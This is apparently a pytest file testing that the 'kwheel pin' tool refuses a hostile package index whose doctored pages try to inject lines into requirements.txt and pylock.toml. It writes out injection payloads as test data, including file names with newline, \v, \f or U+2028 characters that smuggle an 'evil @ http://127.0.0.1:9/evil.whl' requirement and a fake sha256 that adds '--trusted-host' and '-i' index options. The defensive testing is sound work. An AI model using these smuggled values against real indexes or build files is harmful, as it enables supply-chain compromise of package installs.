"""`kwheel pin` against a hostile index: what the index's pages say (file names, hashes, tags)
must never become a line of the requirements.txt or a key of the pylock.toml kwheel writes.

The index is a real site (`kwheel index` of wheels `kwheel build` made from
kwheel_fixtures.make_kernel_repo), served on 127.0.0.1 (PEP 691 JSON and PEP 503 HTML, each by a
server that answers in that format only) and read as file://, whose project pages are then
doctored the way a hostile or compromised index would:

* a JSON filename "...any.whl\\nevil @ http://127.0.0.1:9/evil.whl#sha256=H\\n#.whl", and the
  same as an HTML href with %0A (kwheel wrote it into "# file: NAME", where the newline ended the
  comment and pip read `evil @ URL` as a second requirement, hash included, so --require-hashes
  installed it);
* a 64-character "sha256" holding "\\n--trusted-host ...\\n-i http://127.0.0.1:9/..." (two option
  lines after the requirement's --hash=sha256:);
* python/abi/platform tags holding \\v, \\f or U+2028, which end a line for pip
  (str.splitlines()) but not for a reader that splits on \\n only;
* the same through `pin --lock` (over HTTP, where only the PEP 658 metadata is held to a hash),
  through a pin of every kernel of an index and of a directory, and through a variant index;
* one file name listed twice with two sha256s (fail closed, naming both), or with one (one file);
* a DEL byte and a byte 0xFF in a file name, with `-o pylock.toml`.

What kwheel wrote is read back with pip's own requirement-file parser (pip._internal.req.req_file,
the .venv's pip 26) and with tomllib and pip 26's PEP 751 loader (pip._vendor.packaging.pylock),
and compared with what the test itself knows: the wheels it built and their sha256 (hashlib), the
index URL it served. One pin is also installed (`pip install --dry-run --report`) to show that pip
would take the kernel and nothing else.
"""

from __future__ import annotations

import hashlib
import html
import http.server
import json
import os
import shutil
import subprocess
import sys
import tomllib
import urllib.parse
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from local_servers import serve_in_thread  # noqa: E402
import kwheel_fixtures  # noqa: E402

ROOT = HERE.parent.parent
KWHEEL = os.environ.get("KWHEEL_BIN") or str(ROOT / "build" / "kwheel")
PY = sys.executable
INPUT, NOT_FOUND = 3, 5
CU126 = "torch27-cxx11-cu126-x86_64-linux"
CPU29 = "torch29-cxx11-cpu-x86_64-linux"  # the null variant of the site's variant index
TARGET = ("--torch", "2.7", "--cuda", "12.6")
REPO, COMMIT = "org/img2gray", "0123456789abcdef0123456789abcdef01234567"
EVIL = "http://127.0.0.1:9/evil.whl"  # nothing listens on port 9
H = hashlib.sha256(b"evil").hexdigest()

pytestmark = pytest.mark.skipif(not os.access(KWHEEL, os.X_OK), reason=f"kwheel not built at {KWHEEL} (set KWHEEL_BIN)")


def clean_env(**extra) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "UV_"))}
    env.update(PIP_CONFIG_FILE=os.devnull, PIP_DISABLE_PIP_VERSION_CHECK="1", PIP_NO_INPUT="1", PIP_KEYRING_PROVIDER="disabled")
    env.update({k: str(v) for k, v in extra.items()})
    return env


def kwheel(*args) -> subprocess.CompletedProcess:
    return subprocess.run([KWHEEL, *map(str, args)], capture_output=True, text=True, env=clean_env(), timeout=300)


def sha256(p: Path) -> str:
    return hashlib.sha256(Path(p).read_bytes()).hexdigest()


# --------------------------------------------------------------------------- what pip reads


def pip_reads(path: Path) -> tuple[list[tuple[str, dict]], list[dict]]:
    """The requirements (args, hashes) and option lines (the options pip set, by name) that pip's
    own requirement-file parser reads from `path`."""
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import RequirementsFileParser, build_parser, get_line_parser

    defaults = vars(build_parser().get_default_values())
    defaults["index_url"] = None
    requirements, options = [], []
    for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(str(path), constraint=False):
        opts = {k: v for k, v in vars(line.opts).items() if v != defaults.get(k)}
        if line.requirement:
            requirements.append((line.requirement, opts.pop("hashes", {})))
            assert not opts, f"options on a requirement line: {opts}"
        else:
            options.append(opts)
    return requirements, options


def lock_reads(path: Path) -> list[dict]:
    """The packages of a pylock.toml as tomllib reads it, each checked by pip 26's PEP 751 loader."""
    from pip._vendor.packaging.pylock import Pylock

    data = tomllib.loads(path.read_text(encoding="utf-8"))
    lock = Pylock.from_dict(data)
    out = []
    for p in lock.packages:
        out.append({"name": str(p.name), "version": str(p.version),
                    "wheels": [(w.name, w.url, dict(w.hashes)) for w in p.wheels or []]})
    return out


# --------------------------------------------------------------------------- the index


class _Handler(http.server.BaseHTTPRequestHandler):
    server: "_Site"

    def log_message(self, *args):
        pass

    def do_GET(self):  # noqa: N802
        rel = urllib.parse.unquote(self.path.split("?", 1)[0]).lstrip("/")
        local = self.server.root / rel
        if local.is_dir():
            page = "index.json" if self.server.mode == "json" else "index.html"
            kind = "application/vnd.pypi.simple.v1+json" if self.server.mode == "json" else "text/html"
            local = local / page
        else:
            kind = "application/octet-stream"
        if not local.is_file():
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = local.read_bytes()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class _Site(http.server.ThreadingHTTPServer):
    daemon_threads = True


@contextmanager
def served(root: Path, mode: str):
    """`root` over HTTP on 127.0.0.1, every page in one format ("json" or "html")."""
    srv = _Site(("127.0.0.1", 0), _Handler)
    srv.root, srv.mode = root, mode
    with serve_in_thread(srv):
        yield f"http://127.0.0.1:{srv.server_address[1]}"


def with_hub_revision(wheel: Path, out: Path) -> Path:
    """`wheel` as a Hub build of REPO at COMMIT records itself (what `pin --lock` looks for)."""
    import base64

    out.mkdir(parents=True, exist_ok=True)
    dest = out / wheel.name
    line = f"Project-URL: Hub revision, https://huggingface.co/kernels/{REPO}/tree/{COMMIT}"
    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        meta = next(n for n in names if n.endswith(".dist-info/METADATA"))
        record = next(n for n in names if n.endswith(".dist-info/RECORD"))
        head, sep, body = src.read(meta).decode().partition("\n\n")
        new_meta = (head + "\n" + line + sep + body).encode()
        digest = base64.urlsafe_b64encode(hashlib.sha256(new_meta).digest()).rstrip(b"=").decode()
        rows = [f"{meta},sha256={digest},{len(new_meta)}" if r.startswith(meta + ",") else r for r in src.read(record).decode().splitlines()]
        for n in names:
            dst.writestr(n, new_meta if n == meta else ("\n".join(rows) + "\n").encode() if n == record else src.read(n))
    return dest


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> dict:
    """kwheel build of two kernels (img2gray: cu126, torch 2.9 CPU and universal; acme: cu126),
    the img2gray cu126 wheel as a locked Hub build, and `kwheel index` sites of both (the first
    with its variant index)."""
    work = tmp_path_factory.mktemp("hostile-index")
    dist = work / "dist"
    for name, variants in (("img2gray", [CU126, CPU29, "torch-universal"]), ("acme", [CU126])):
        repo = kwheel_fixtures.make_kernel_repo(work / "src", name, variants)
        p = kwheel("build", repo, "--version", "0.1.0", "-o", dist, "-q")
        assert p.returncode == 0, p.stdout + p.stderr
    wheels = {w.name: w for w in dist.glob("*.whl")}
    cu126 = kwheel_fixtures.expected_filename(CU126)
    assert {cu126, kwheel_fixtures.expected_filename(CPU29), kwheel_fixtures.expected_filename("torch-universal"),
            kwheel_fixtures.expected_filename(CU126, "acme")} == set(wheels)
    locked = with_hub_revision(wheels[cu126], work / "locked")
    sites = {}
    for name, wheel_dir, extra in (("site", dist, ["--variants"]), ("locked-site", locked.parent, [])):
        p = kwheel("index", wheel_dir, "-o", work / name, "-q", *extra)
        assert p.returncode == 0, p.stdout + p.stderr
        sites[name] = work / name
    lock = work / "kernels.lock"
    lock.write_text(json.dumps([{"repo_id": REPO, "sha": COMMIT}]))
    return {"work": work, "dist": dist, "wheels": wheels, "cu126": wheels[cu126], "acme": wheels[kwheel_fixtures.expected_filename(CU126, "acme")],
            "locked": locked, "lock": lock, **sites}


def doctored(built: dict, tmp_path: Path, entries: list[dict], site: str = "site", page: str = "simple/img2gray") -> Path:
    """A copy of a site whose project page (JSON and HTML alike) also lists `entries`:
    {"filename", "url" (relative to the page), "sha256", "metadata" (optional sha256)}. The HTML
    href is the URL with its last segment the percent-encoded file name, as pip reads names."""
    root = tmp_path / "served"
    shutil.copytree(built[site], root)
    page = root / page
    listing = json.loads((page / "index.json").read_text())
    anchors = []
    for e in entries:
        f = {"filename": e["filename"], "url": e["url"], "hashes": {"sha256": e["sha256"]}}
        if "metadata" in e:
            f["core-metadata"] = {"sha256": e["metadata"]}
        listing["files"].append(f)
        href = e["url"].rsplit("/", 1)[0] + "/" + urllib.parse.quote(e["filename"], safe="")
        extra = f' data-core-metadata="sha256={e["metadata"]}"' if "metadata" in e else ""
        anchors.append(f'    <a href="{html.escape(href + "#sha256=" + e["sha256"])}"{extra}>{html.escape(e["filename"])}</a><br/>\n')
    (page / "index.json").write_text(json.dumps(listing))
    text = (page / "index.html").read_text()
    (page / "index.html").write_text(text.replace("  </body>", "".join(anchors) + "  </body>"))
    return root


@contextmanager
def index_url(root: Path, how: str, index: str = "simple"):
    """The doctored site's simple/ as kwheel is pointed at it: over HTTP in one format, or as file://
    (index.json where it is there, so "file-html" removes the JSON pages)."""
    if how.startswith("http-"):
        with served(root, how[5:]) as url:
            yield f"{url}/{index}/"
    else:
        if how == "file-html":
            for p in root.rglob("index.json"):
                p.unlink()
        yield f"{root.as_uri()}/{index}/"


HOWS = ["http-json", "http-html", "file-json", "file-html"]

# The review's two attacks, each on a newer version than the real builds, so that it is the pin
# when nothing refuses it.
FILENAME_ATTACK = f"img2gray-0.2.0-py3-none-any.whl\nevil @ {EVIL}#sha256={H}\n#.whl"
HASH_ATTACK = ("\n--trusted-host evil.example\n-i http://127.0.0.1:9/s/" + "a" * 64)[:64]
assert len(HASH_ATTACK) == 64
# Tags that end a line for pip (str.splitlines) but hold no '-'.
TAG_ATTACKS = [f"img2gray-0.2.0-py3-none-any\x0bevil @ {EVIL}#sha256={H}\x0bx.whl",
               f"img2gray-0.2.0-py3\x0cevil @ {EVIL}#sha256={H}\x0c-none-any.whl",
               f"img2gray-0.2.0-py3-none\u2028evil @ {EVIL}#sha256={H}\u2028-any.whl"]


def entry(filename: str, sha: str = H, url_dir: str = "../../files") -> dict:
    return {"filename": filename, "url": f"{url_dir}/{urllib.parse.quote(filename, safe='')}", "sha256": sha}


def pinned(p: subprocess.CompletedProcess, out: Path, url: str, *kernels: Path) -> None:
    """kwheel exited 0 and `out` holds, for pip, exactly the kernels' pins and the index line."""
    assert p.returncode == 0, p.stdout + p.stderr
    requirements, options = pip_reads(out)
    expected = sorted((f"{k.name.split('-')[0]}=={k.name.split('-')[1]}", {"sha256": [sha256(k)]}) for k in kernels)
    assert sorted(requirements) == expected, out.read_text()
    assert options == [{"index_url": url}], out.read_text()


# --------------------------------------------------------------------------- requirements.txt


ATTACKS = {"filename": entry(FILENAME_ATTACK), "sha256": entry("img2gray-0.3.0-py3-none-any.whl", HASH_ATTACK),
           "platform-tag-vt": entry(TAG_ATTACKS[0]), "python-tag-ff": entry(TAG_ATTACKS[1]), "abi-tag-u2028": entry(TAG_ATTACKS[2])}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("how", HOWS)
def test_a_file_name_hash_or_tag_that_carries_lines_is_refused(built, tmp_path, how, attack):
    root = doctored(built, tmp_path, [ATTACKS[attack]])
    out = tmp_path / "requirements.txt"
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps", "-o", out, "--json")
        pinned(p, out, url, built["cu126"])
        report = json.loads(p.stdout)
        # Shown with the others, named escaped, its reason one line naming the page.
        [refused] = [c for c in report["candidates"] if "0.2.0" in c["filename"] or "0.3.0" in c["filename"]]
        assert not refused["fits"] and "\n" not in refused["reason"] and f"{url}img2gray/" in refused["reason"], refused
        assert "evil @ http://127.0.0.1:9/evil.whl" in refused["filename"] or attack == "sha256", refused
        if how == "http-json" and attack == "filename":
            # pip installs what it read: the kernel, nothing from port 9.
            r = subprocess.run([PY, "-m", "pip", "install", "--dry-run", "--ignore-installed", "--no-deps", "--no-cache-dir", "-q", "--report", "-",
                                "--require-hashes", "-r", out], capture_output=True, text=True, env=clean_env(), timeout=300)
            assert r.returncode == 0, r.stdout + r.stderr
            assert [i["download_info"]["url"].rsplit("/", 1)[1] for i in json.loads(r.stdout)["install"]] == [urllib.parse.quote(built["cu126"].name)]


@pytest.mark.parametrize("how", ["http-json", "file-html"])
def test_only_hostile_files_fail_naming_the_page_and_the_value(built, tmp_path, how):
    root = tmp_path / "served"
    shutil.copytree(built["site"], root)
    page = root / "simple" / "img2gray"
    (page / "index.json").write_text(json.dumps({"meta": {"api-version": "1.1"}, "name": "img2gray", "files": [
        {"filename": FILENAME_ATTACK, "url": "../../files/x.whl", "hashes": {"sha256": H}}]}))
    (page / "index.html").write_text(f'<html><body><a href="../../files/{urllib.parse.quote(FILENAME_ATTACK, safe="")}#sha256={H}">x</a></body></html>')
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps")
    assert p.returncode == NOT_FOUND, p.stdout + p.stderr
    assert p.stdout == ""
    [line] = p.stderr.splitlines()
    assert f"{url}img2gray/" in line and "img2gray-0.2.0-py3-none-any.whl\\x0aevil @ http://127.0.0.1:9/evil.whl" in line, line


@pytest.mark.parametrize("how", ["http-json", "http-html"])
def test_lock_pins_refuse_them_too(built, tmp_path, how):
    # Over HTTP, --lock holds the PEP 658 metadata to its hash, not the wheel: a hostile entry
    # can give the locked build's real metadata and any "sha256".
    metadata = next((built["locked-site"] / "files").rglob(built["locked"].name + ".metadata"))
    forged_dir = built["locked-site"] / "files" / "forged"
    forged_dir.mkdir(exist_ok=True)
    shutil.copy2(metadata, forged_dir / "img2gray-0.2.0-py3-none-any.whl.metadata")
    attack = {**entry("img2gray-0.2.0-py3-none-any.whl", HASH_ATTACK, "../../files/forged"), "metadata": sha256(metadata)}
    root = doctored(built, tmp_path, [attack], site="locked-site")
    out = tmp_path / "requirements.txt"
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--lock", built["lock"], *TARGET, "--no-deps", "-o", out)
        pinned(p, out, url, built["locked"])


@pytest.mark.parametrize("how", ["http-json", "file-html"])
def test_a_pin_of_every_kernel_refuses_them_too(built, tmp_path, how):
    root = doctored(built, tmp_path, [entry(FILENAME_ATTACK), entry(TAG_ATTACKS[0])])
    out = tmp_path / "requirements.txt"
    with index_url(root, how) as url:
        p = kwheel("pin", url, *TARGET, "--no-deps", "-o", out)
        pinned(p, out, url, built["cu126"], built["acme"])


def test_a_pin_of_every_kernel_of_a_directory_skips_a_hostile_name(built, tmp_path):
    d = tmp_path / "dist"
    shutil.copytree(built["dist"], d)
    # A file name can hold no '/', but a \v ends a line for pip all the same.
    shutil.copy2(built["cu126"], d / "img2gray-0.2.0-py3-none-any\x0bevil==1.0\x0bx.whl")
    out = tmp_path / "requirements.txt"
    p = kwheel("pin", d, *TARGET, "--no-deps", "-o", out)
    assert p.returncode == 0, p.stdout + p.stderr
    requirements, options = pip_reads(out)
    assert sorted(requirements) == sorted((f"{k.name.split('-')[0]}=={k.name.split('-')[1]}", {"sha256": [sha256(k)]}) for k in (built["cu126"], built["acme"]))
    assert options == []


@pytest.mark.parametrize("how", ["http-json", "file-html"])
def test_a_variant_index_refuses_them_too(built, tmp_path, how):
    [real] = (built["site"] / "variants" / "files").glob("*-null.whl")
    files = "../../../files"
    tags = f"img2gray-0.1.0+torch2.9-cp39-abi3-manylinux1_x86_64\x0bevil @ {EVIL}#sha256={H}\x0bx-null.whl"
    root = doctored(built, tmp_path, [entry(tags, H, files), entry("img2gray-0.1.0+torch2.9-cp39-abi3-manylinux_2_28_x86_64-null.whl", HASH_ATTACK, files)],
                    page="variants/torch2.9/simple/img2gray")
    out = tmp_path / "requirements.txt"
    with index_url(root, how, "variants/torch2.9/simple") as url:
        p = kwheel("pin", url, "--name", "img2gray", "--torch", "2.9", "--cpu", "--cuda-driver", "none", "--no-deps", "-o", out)
        pinned(p, out, url, real)


@pytest.mark.parametrize("how", ["http-json", "file-json"])
def test_one_file_name_two_hashes_fails_closed_and_one_hash_is_one_file(built, tmp_path, how):
    cu126 = built["cu126"]
    other = sha256(built["acme"])
    root = doctored(built, tmp_path, [entry(cu126.name, other, "../../other")])
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps")
    assert p.returncode == INPUT, p.stdout + p.stderr
    [line] = p.stderr.splitlines()
    for part in (f"{url}img2gray/", cu126.name, sha256(cu126), other):
        assert part in line, line
    root = doctored(built, tmp_path / "same", [entry(cu126.name, sha256(cu126), "../../other")])
    out = tmp_path / "requirements.txt"
    with index_url(root, how) as url:
        pinned(kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps", "-o", out), out, url, cu126)


# --------------------------------------------------------------------------- pylock.toml


@pytest.mark.parametrize("how", ["http-html", "file-html"])
def test_pylock_from_names_with_del_and_0xff(built, tmp_path, how):
    root = doctored(built, tmp_path, [])
    page = root / "simple" / "img2gray" / "index.html"
    anchors = "".join(f'<a href="../../files/img2gray-0.2.0-py3-none-any{b}.whl#sha256={H}">x</a>\n' for b in ("%7F", "%FF", "%22%0A%5B%5Bpackages%5D%5D"))
    page.write_text(page.read_text().replace("  </body>", anchors + "  </body>"))
    lock = tmp_path / "pylock.toml"
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps", "-o", lock)
    assert p.returncode == 0, p.stdout + p.stderr
    cu126 = built["cu126"]
    [package] = lock_reads(lock)
    assert package["name"] == "img2gray" and package["version"] == "0.1.0+torch2.7.cu126"
    [(name, wheel_url, hashes)] = package["wheels"]
    assert name == cu126.name and hashes == {"sha256": sha256(cu126)}
    assert urllib.parse.unquote(wheel_url).endswith("/files/" + cu126.name), wheel_url


@pytest.mark.parametrize("how", ["http-json", "file-json"])
def test_pylock_refuses_the_attacks_like_requirements(built, tmp_path, how):
    root = doctored(built, tmp_path, [entry(FILENAME_ATTACK), entry("img2gray-0.3.0-py3-none-any.whl", HASH_ATTACK),
                                      entry("img2gray-0.4.0-py3-none-any\x7f.whl")])
    lock = tmp_path / "pylock.toml"
    with index_url(root, how) as url:
        p = kwheel("pin", url, "--name", "img2gray", *TARGET, "--no-deps", "-o", lock)
    assert p.returncode == 0, p.stdout + p.stderr
    assert [(pk["name"], pk["version"], [(w[0], w[2]) for w in pk["wheels"]]) for pk in lock_reads(lock)] == \
        [("img2gray", "0.1.0+torch2.7.cu126", [(built["cu126"].name, {"sha256": sha256(built["cu126"])})])]
